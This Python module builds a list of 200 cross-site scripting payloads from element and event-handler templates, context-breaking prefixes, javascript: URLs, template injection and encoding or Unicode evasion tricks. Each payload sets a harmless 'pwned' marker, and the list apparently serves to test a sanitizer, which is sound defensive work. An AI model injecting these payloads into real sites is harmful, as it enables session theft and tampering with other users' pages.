"""Two hundred ways to smuggle a script into a page. Each sets `pwned` when it runs.

They are made here of the known kinds: elements, attributes, addresses, ends of what they may stand
in, encodings, and templates.
"""

from __future__ import annotations

from itertools import product

_CALL = "self.pwned=1"
_ELEMENTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<script >{0}</script >",
    "<script/x>{0}</script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    '<img src="x" onerror="{0}">',
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src='javascript:parent.{0}'></iframe>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<style>@import 'x'</style><img src=x onerror={0}>",
    "<a href=javascript:{0}>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<base href='javascript:/a/-{0}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
)
_ENDS = ("", '">', "'>", "</title>", "</textarea>", "-->", "]]>")
_OTHERS = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    '" onmouseover={0} autofocus onfocus={0} x="',
    "' onfocus={0} autofocus tabindex=1 x='",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "%3Cscript%3E{0}%3C/script%3E",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u202e<script>{0}</script>",
    "<scr\u200bipt>{0}</scr\u200bipt>",
)

PAYLOADS = tuple(
    payload.format(_CALL)
    for payload in (*(end + element for end, element in product(_ENDS, _ELEMENTS)), *_OTHERS)
)[-200:]
